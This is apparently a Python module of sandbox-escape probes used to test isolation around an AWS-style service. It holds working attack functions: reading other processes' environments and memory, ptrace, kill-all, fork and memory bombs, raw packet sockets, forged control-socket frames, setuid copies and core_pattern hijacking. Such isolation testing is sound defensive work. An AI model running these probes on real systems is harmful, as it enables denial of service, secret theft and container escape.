"""What hostile code does from inside a sandbox. Runs there: the standard library and boto3, nothing else.

Each function is one attack. It reports what came of it as JSON and never raises for being refused.
"""

import contextlib
import ctypes
import errno
import json
import os
import re
import socket
import subprocess
import sys
import time
from urllib.parse import urlsplit

LIBC = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET, CLONE_NEWPID = 0x20000, 0x10000000, 0x40000000, 0x20000000
PTRACE_ATTACH = 16


def _door():
    parts = urlsplit(os.environ["AWS_ENDPOINT_URL"])
    return parts.hostname, parts.port


def raw(request):
    """Send bytes (given as latin-1 text; {port} is filled in) to the front door; the status and the body's start."""
    host, port = _door()
    data = request.replace("{port}", str(port)).encode("latin-1")
    answer = b""
    with socket.create_connection((host, port), 5) as link, contextlib.suppress(OSError):
        link.sendall(data)
        while len(answer) < 65536 and (chunk := link.recv(4096)):
            answer += chunk
    head, _, body = answer.partition(b"\r\n\r\n")
    found = re.match(rb"HTTP/1\.[01] (\d{3})", head)
    text = body.decode("latin-1")[:2000]
    return {"status": int(found.group(1)) if found else 0, "body": text, "bytes": len(answer)}


def call(service, operation, arguments, key="", secret="", token=None, signed=True, signature=None, host=None):
    """Call an operation with boto3; {"ok": answer} or {"error": code, "status": HTTP status}."""
    import boto3
    from botocore import UNSIGNED
    from botocore.config import Config
    from botocore.exceptions import BotoCoreError, ClientError

    version = signature if signed else UNSIGNED
    config = Config(
        signature_version=version,
        retries={"total_max_attempts": 1},
        inject_host_prefix=False,
        s3={"addressing_style": "path"},
        read_timeout=10,
    )
    options = {"aws_access_key_id": key, "aws_secret_access_key": secret, "aws_session_token": token} if key else {}
    client = boto3.client(
        service, region_name="us-east-1", config=config, endpoint_url=os.environ["AWS_ENDPOINT_URL"], **options
    )
    if host:
        client.meta.events.register("before-sign", lambda request, **_: request.headers.__setitem__("Host", host))
    try:
        answer = getattr(client, operation)(**arguments)
    except ClientError as error:
        meta = error.response["ResponseMetadata"]
        return {"error": error.response["Error"]["Code"], "status": meta["HTTPStatusCode"]}
    except BotoCoreError as error:
        return {"error": type(error).__name__, "status": 0}
    answer.pop("ResponseMetadata", None)
    return {"ok": json.loads(json.dumps(answer, default=str))}


def presigned(service, operation, arguments, key, secret, signature):
    """GET a URL presigned with a key of one's own making."""
    import boto3
    from botocore.config import Config

    config = Config(signature_version=signature, s3={"addressing_style": "path"})
    client = boto3.client(
        service,
        region_name="us-east-1",
        endpoint_url=os.environ["AWS_ENDPOINT_URL"],
        config=config,
        aws_access_key_id=key,
        aws_secret_access_key=secret,
    )
    parts = urlsplit(client.generate_presigned_url(operation, Params=arguments))
    return raw(f"GET {parts.path}?{parts.query} HTTP/1.1\r\nHost: {parts.netloc}\r\nConnection: close\r\n\r\n")


def look(path):
    """Read a file or list a folder."""
    try:
        if os.path.isdir(path):
            return {"seen": sorted(os.listdir(path))[:50]}
        with open(path, "rb") as file:
            return {"seen": file.read(500).decode("latin-1")}
    except OSError as error:
        return {"refused": errno.errorcode.get(error.errno, "?")}


def write(path):
    """Make a file at `path`, or add to the one there."""
    try:
        with open(path, "ab") as file:
            file.write(b"x")
            file.flush()
    except OSError as error:
        return {"refused": errno.errorcode.get(error.errno, "?")}
    return {"written": path}


def writable_folders():
    """Every folder on any mount that takes a new file."""
    found = []
    for folder, folders, _ in os.walk("/"):
        folders[:] = [name for name in folders if os.path.join(folder, name) not in ("/proc", "/sys")]
        probe = os.path.join(folder, f".probe-{os.getpid()}")
        try:
            os.close(os.open(probe, os.O_CREAT | os.O_WRONLY | os.O_EXCL, 0o600))
        except OSError:
            continue
        os.unlink(probe)
        found.append(folder)
    return {"folders": found}


def fill(path, megabytes):
    """Write until refused; how many MB went in, and what stopped it."""
    block, written = b"x" * (1 << 20), 0
    files = []
    try:
        while written < megabytes:
            name = os.path.join(path, f"fill-{len(files)}")
            with open(name, "wb", buffering=0) as file:
                files.append(name)
                for _ in range(64):
                    if file.write(block) < len(block):
                        return {"megabytes": written, "stopped": "SHORT"}
                    written += 1
    except OSError as error:
        return {"megabytes": written, "stopped": errno.errorcode.get(error.errno, "?")}
    finally:
        for name in files:
            with contextlib.suppress(OSError):
                os.unlink(name)
    return {"megabytes": written, "stopped": ""}


def processes():
    """Every process that /proc shows, with its command line, environment and open files."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        entry = {"pid": int(pid), "command": "", "environment": "", "files": []}
        for name, file in (("command", "cmdline"), ("environment", "environ")):
            with contextlib.suppress(OSError), open(f"/proc/{pid}/{file}", "rb") as opened:
                entry[name] = opened.read(4000).decode("latin-1")
        with contextlib.suppress(OSError):
            for descriptor in os.listdir(f"/proc/{pid}/fd"):
                with contextlib.suppress(OSError):
                    entry["files"].append(os.readlink(f"/proc/{pid}/fd/{descriptor}"))
        found.append(entry)
    return {"processes": found}


def descriptors():
    """What this very program was given: its open files, and the listening sockets among them."""
    found = {}
    for descriptor in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            found[descriptor] = os.readlink(f"/proc/self/fd/{descriptor}")
    return {"descriptors": found}


def memory_of(pid):
    """Read another process's memory and attach to it."""
    tried = {}
    try:
        with open(f"/proc/{pid}/mem", "rb") as file:
            file.read(1)
        tried["mem"] = "read"
    except OSError as error:
        tried["mem"] = errno.errorcode.get(error.errno, "?")
    done = LIBC.ptrace(PTRACE_ATTACH, pid, 0, 0)
    tried["ptrace"] = "attached" if done == 0 else errno.errorcode.get(ctypes.get_errno(), "?")
    return tried


def end_processes(pids):
    """Send SIGKILL to each of `pids`; -1 is everyone."""
    tried = {}
    for pid in pids:
        try:
            os.kill(pid, 9)
            tried[str(pid)] = "sent"
        except OSError as error:
            tried[str(pid)] = errno.errorcode.get(error.errno, "?")
    return tried


def connect(targets, seconds=0.5):
    """TCP and UDP to each (address, port) of `targets`; which of them answered or took a datagram."""
    reached, refused = [], {}
    for address, port in targets:
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            with socket.socket(family, kind) as link:
                link.settimeout(seconds)
                try:
                    link.connect((address, port))
                    if kind == socket.SOCK_DGRAM:
                        link.send(b"out")
                        link.recv(1)
                    reached.append([address, port])
                except OSError as error:
                    refused[f"{address}:{port}"] = str(error)
    return {"reached": reached, "refused": refused}


def connect_unix(path):
    """A unix socket, by path or (with a leading @) by abstract name."""
    name = "\0" + path[1:] if path.startswith("@") else path
    with socket.socket(socket.AF_UNIX) as link:
        try:
            link.connect(name)
        except OSError as error:
            return {"refused": errno.errorcode.get(error.errno, "?")}
    return {"reached": path}


def interfaces():
    return {"names": sorted(name for _, name in socket.if_nameindex())}


def listen_raw():
    """Packet and raw sockets, which see other people's traffic."""
    opened = []
    for name, family, kind, proto in (
        ("packet", socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)),
        ("raw", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
    ):
        with contextlib.suppress(OSError), socket.socket(family, kind, proto):
            opened.append(name)
    return {"opened": opened}


def allocate(megabytes):
    """Make that much memory resident."""
    kept = []
    for _ in range(megabytes // 16):
        block = bytearray(16 << 20)
        block[::4096] = b"x" * len(block[::4096])
        kept.append(block)
    return {"megabytes": len(kept) * 16}


def allocate_shared(megabytes, processes):
    """The same, in shared pages of several processes, which a sum of private pages misses."""
    import mmap

    each = (megabytes // processes) << 20
    for _ in range(processes):
        if os.fork() == 0:
            block = mmap.mmap(-1, each)
            for offset in range(0, each, 4096):
                block[offset] = 1
            time.sleep(60)
            os._exit(0)
    time.sleep(20)
    return {"megabytes": megabytes}


def allocate_hidden(megabytes):
    """Memory that belongs to no process: anonymous files and System V segments. How much was taken."""
    taken = 0
    held = []
    try:
        while taken < megabytes:
            held.append(os.memfd_create("x"))
            for _ in range(16):
                os.write(held[-1], b"x" * (1 << 20))
                taken += 1
    except OSError as error:
        why = errno.errorcode.get(error.errno, "?")
    else:
        why = ""
    LIBC.shmget.restype = ctypes.c_int
    segment = LIBC.shmget(0, ctypes.c_size_t(64 << 20), 0o1600)
    return {"megabytes": taken, "stopped": why, "segment": segment >= 0}


def forks(number):
    """Start `number` processes that stay; how many were allowed. All are gone afterwards."""
    children, why = [], ""
    try:
        for _ in range(number):
            pid = os.fork()
            if pid == 0:
                time.sleep(30)
                os._exit(0)
            children.append(pid)
    except OSError as error:
        why = errno.errorcode.get(error.errno, "?")
    for pid in children:
        os.kill(pid, 9)
    for pid in children:
        os.waitpid(pid, 0)
    return {"started": len(children), "stopped": why}


def open_files(number):
    held, why = [], ""
    try:
        for _ in range(number):
            held.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as error:
        why = errno.errorcode.get(error.errno, "?")
    for descriptor in held:
        os.close(descriptor)
    return {"opened": len(held), "stopped": why}


def print_forever():
    block = b"x" * 65536
    while True:
        os.write(1, block)


def _sockets():
    found = []
    for descriptor in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            if os.readlink(f"/proc/self/fd/{descriptor}").startswith("socket:"):
                found.append(int(descriptor))
    return found


def flood_control():
    """Write rubbish into every socket that was inherited, for ever."""
    block = b"\x00\x00\x00\x02\x00\x00\x00\x00{}" * 5000
    sockets = _sockets()
    while sockets:
        for descriptor in sockets:
            with contextlib.suppress(OSError):
                os.write(descriptor, block)


def false_frames(frames):
    """Answer on the control socket in the runtime client's place."""
    import struct

    sent = 0
    for head, body in frames:
        packed = json.dumps(head).encode() if isinstance(head, dict) else head.encode()
        data = struct.pack("!II", len(packed), len(body)) + packed + body.encode()
        for descriptor in _sockets():
            sent += os.write(descriptor, data) > 0
    return {"sent": sent}


def spin():
    while True:
        pass


def spin_without_signals():
    import signal

    for number in range(1, 32):
        with contextlib.suppress(OSError, ValueError):
            signal.signal(number, signal.SIG_IGN)
    spin()


def stay_behind():
    """Leave a process behind that counts in /tmp for as long as it runs."""
    if os.fork() == 0:
        os.setsid()
        while True:
            with open("/tmp/count", "ab") as file:  # noqa: S108 (inside)
                file.write(b"x")
            time.sleep(0.005)
    return {"left": True}


def mounting():
    """mount(2), the newer calls, and pivot_root."""
    done = {}
    for name, arguments in (
        ("tmpfs", (b"none", b"/tmp", b"tmpfs", 0, None)),
        ("bind", (b"/", b"/tmp", None, 4096, None)),
        ("remount", (b"none", b"/", None, 32, None)),
        ("proc", (b"proc", b"/proc", b"proc", 0, None)),
    ):
        done[name] = LIBC.mount(*arguments) == 0
    done["umount"] = LIBC.umount2(b"/proc", 2) == 0
    done["fsopen"] = LIBC.syscall(430, b"tmpfs", 0) >= 0
    done["chroot"] = LIBC.chroot(b"/tmp") == 0
    return done


def namespaces():
    """Make namespaces, alone and behind a user namespace, each in a child of its own."""
    done = {}
    for name, flags in (
        ("user", CLONE_NEWUSER),
        ("user+mount", CLONE_NEWUSER | CLONE_NEWNS),
        ("mount", CLONE_NEWNS),
        ("net", CLONE_NEWNET),
        ("pid", CLONE_NEWPID),
    ):
        pid = os.fork()
        if pid == 0:
            os._exit(0 if LIBC.unshare(flags) == 0 else 1)
        done[name] = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0
    return done


def identity():
    """Who this is, what it may still become, and which capabilities it has."""
    with open("/proc/self/status", encoding="ascii") as file:
        status = dict(line.split(":", 1) for line in file)
    became = []
    for uid in (0, 1, 65534):
        pid = os.fork()
        if pid == 0:
            try:
                os.setuid(uid)
            except OSError:
                os._exit(1)
            os._exit(0)
        if os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0:
            became.append(uid)
    names = ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")
    return {
        "uid": os.getuid(),
        "became": became,
        "capabilities": {name: int(status[name], 16) for name in names},
        "no_new_privs": int(status.get("NoNewPrivs", "0")),
    }


def setuid_programs():
    """Run programs that have the setuid bit, as far as there are any; who they ran as."""
    ran, effective = [], []
    for name in ("su", "mount", "passwd", "sudo", "newgrp", "chsh"):
        path = f"/usr/bin/{name}"
        if os.path.exists(path):
            done = subprocess.run([path, "--version"], capture_output=True, check=False, stdin=subprocess.DEVNULL)
            ran.append([name, done.returncode])
    copy = "/tmp/own-id"  # noqa: S108 (inside)
    with contextlib.suppress(OSError):
        with open("/usr/bin/id", "rb") as source, open(copy, "wb") as target:
            target.write(source.read())
        os.chmod(copy, 0o6755)
        done = subprocess.run([copy, "-u"], capture_output=True, text=True, check=False)
        effective.append(done.stdout.strip())
    return {"ran": ran, "effective": effective, "uid": os.getuid()}


def kernel_settings():
    """Write to the kernel's own switches."""
    done = []
    for path, text in (
        ("/proc/sys/kernel/core_pattern", "|/tmp/x"),
        ("/proc/sysrq-trigger", "h"),
        ("/proc/sys/kernel/hostname", "x"),
        ("/proc/self/oom_score_adj", "-1000"),
        ("/proc/sys/vm/drop_caches", "1"),
    ):
        with contextlib.suppress(OSError), open(path, "w", encoding="ascii") as file:
            file.write(text)
            file.flush()
            done.append(path)
    return {"written": done}


def imports(names):
    """Which of these modules of the host can be imported."""
    found = []
    for name in names:
        try:
            __import__(name)
        except ImportError:
            continue
        found.append(name)
    return {"found": found}


def environment():
    return {"names": dict(os.environ), "path": sys.path}
